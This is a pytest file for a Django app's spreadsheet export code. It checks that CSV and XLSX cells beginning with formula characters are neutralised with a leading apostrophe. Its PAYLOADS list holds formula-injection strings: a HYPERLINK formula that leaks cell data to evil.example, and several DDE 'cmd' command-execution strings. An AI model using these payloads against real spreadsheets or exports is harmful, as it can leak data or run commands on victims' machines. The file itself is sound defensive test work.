"""The one spreadsheet writer: a text a spreadsheet would run as a formula is written as plain text."""

import csv
import io

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.exports import SheetBlock, csv_bytes, safe_cell, xlsx_bytes
from places.models import AdministrativeUnit
from tests.factories.campaigns import CampaignPageFactory
from tests.factories.tracking import poster_channel
from tracking.services import create_placements

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_become_text_in_csv_and_xlsx(payload):
    _header, cells = csv.reader(io.StringIO(csv_bytes(header=["a"], rows=[[payload]]).decode("utf-8-sig")))
    assert cells == ["'" + payload]
    sheet = load_workbook(io.BytesIO(xlsx_bytes([("Bảng", [SheetBlock(header=["a"], rows=[[payload]])])]))).active
    # (XML turns a carriage return into a line feed; the apostrophe is what matters.)
    assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("'")


@pytest.mark.parametrize("value", ["-5", "+84 262 385 2000", "12,5 %", 42, -3.5, None, "Nhà văn hóa khối 3"])
def test_numbers_and_ordinary_text_are_written_as_they_are(value):
    assert safe_cell(value) == value


@given(st.text())
def test_no_text_cell_ever_starts_a_formula(text):
    cell = safe_cell(text)
    assert not (cell.startswith(("=", "@", "\t", "\r")) or (cell.startswith(("+", "-")) and "(" in cell))


@pytest.mark.django_db
def test_export_placements_neutralises_an_editor_controlled_spot(official_units, tmp_path):
    campaign = CampaignPageFactory(slug="kich-hoat")
    ward = AdministrativeUnit.objects.get(code="24133")
    [placement] = create_placements(campaign=campaign, units=[ward], channels=[poster_channel()]).created
    placement.spot = PAYLOADS[0]
    placement.save()
    out = tmp_path / "placements.csv"
    call_command("export_placements", "--campaign", "kich-hoat", "--out", str(out))
    [row] = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert row["spot"] == "'" + PAYLOADS[0]
